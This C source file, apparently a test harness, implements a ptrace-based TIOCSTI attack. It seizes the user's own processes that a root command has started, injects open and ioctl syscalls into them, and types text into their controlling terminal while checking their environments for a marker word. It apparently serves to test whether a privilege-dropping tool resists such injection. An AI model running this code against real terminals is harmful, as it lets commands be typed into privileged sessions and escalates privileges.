/*
 * Typist: a user traces each process of their own that root's command has started, and has it open its terminal and
 * type there (TIOCSTI). Tells "TRACED TYPED SEEN" once its standard input ends; SEEN is how many had the word of its
 * argument in their environment.
 */
#include "typist.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned traced, typed, seen;
static pid_t done[4096];
static size_t done_count;

/* Have a stopped process, which waits in a system call, make another one. */
static long have_it_call(pid_t pid, const struct user_regs_struct *was, long number, long one, long two, long three)
{
    struct user_regs_struct now = *was;
    int status;
    now.rip -= 2;
    now.rax = (unsigned long)number;
    now.orig_rax = (unsigned long)-1;
    now.rdi = (unsigned long)one;
    now.rsi = (unsigned long)two;
    now.rdx = (unsigned long)three;
    if (ptrace(PTRACE_SETREGS, pid, 0, &now) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0 ||
        waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &now) != 0) {
        return -1;
    }
    return (long)now.rax;
}

static void put(pid_t pid, unsigned long address, const char *text)
{
    for (size_t at = 0; at <= strlen(text); at += sizeof(long)) {
        long word = 0;
        strncpy((char *)&word, text + at, sizeof word);
        (void)ptrace(PTRACE_POKEDATA, pid, address + at, word);
    }
}

static bool is_in_a_call(pid_t pid, const struct user_regs_struct *registers)
{
    errno = 0;
    return (long)registers->orig_rax >= 0 && (ptrace(PTRACE_PEEKTEXT, pid, registers->rip - 2, 0) & 0xffff) == 0x050f;
}

static bool type_from(pid_t pid)
{
    struct user_regs_struct registers;
    int status;
    bool was_in_a_call = false;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
        return false;
    }
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
        ptrace(PTRACE_GETREGS, pid, 0, &registers) == 0 && is_in_a_call(pid, &registers)) {
        const unsigned long room = registers.rsp - 4096;
        was_in_a_call = true;
        traced++;
        put(pid, room, "/dev/tty");
        const long terminal = have_it_call(pid, &registers, SYS_open, (long)room, O_RDWR, 0);
        for (size_t at = 0; terminal >= 0 && at < sizeof TYPED - 1; at++) {
            const char letter[2] = {TYPED[at], '\0'};
            put(pid, room, letter);
            typed += have_it_call(pid, &registers, SYS_ioctl, terminal, TIOCSTI, (long)room) == 0;
        }
        (void)ptrace(PTRACE_SETREGS, pid, 0, &registers);
    }
    (void)ptrace(PTRACE_DETACH, pid, 0, 0);
    return was_in_a_call;
}

static void look_into(pid_t pid, const char *word)
{
    char path[64], octets[65536];
    (void)snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
    const int file = open(path, O_RDONLY);
    const ssize_t count = file < 0 ? 0 : read(file, octets, sizeof octets);
    seen += count > 0 && memmem(octets, (size_t)count, word, strlen(word)) != NULL;
    (void)close(file);
}

static void attack(pid_t pid, const char *word)
{
    char path[64];
    struct stat status;
    (void)snprintf(path, sizeof path, "/proc/%d", (int)pid);
    if (pid == getpid() || pid == getppid() || stat(path, &status) != 0 || status.st_uid != getuid()) {
        return;
    }
    for (size_t at = 0; at < done_count; at++) {
        if (done[at] == pid) {
            return;
        }
    }
    if (type_from(pid) && done_count < sizeof done / sizeof done[0]) {
        look_into(pid, word);
        done[done_count++] = pid;
    }
}

int main(int argc, char **argv)
{
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
    while (argc == 2 && poll(&input, 1, 4) == 0) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes != NULL && (entry = readdir(processes)) != NULL) {
            if (isdigit((unsigned char)entry->d_name[0])) {
                attack((pid_t)atoi(entry->d_name), argv[1]);
            }
        }
        (void)closedir(processes);
    }
    (void)printf("%u %u %u\n", traced, typed, seen);
    return 0;
}
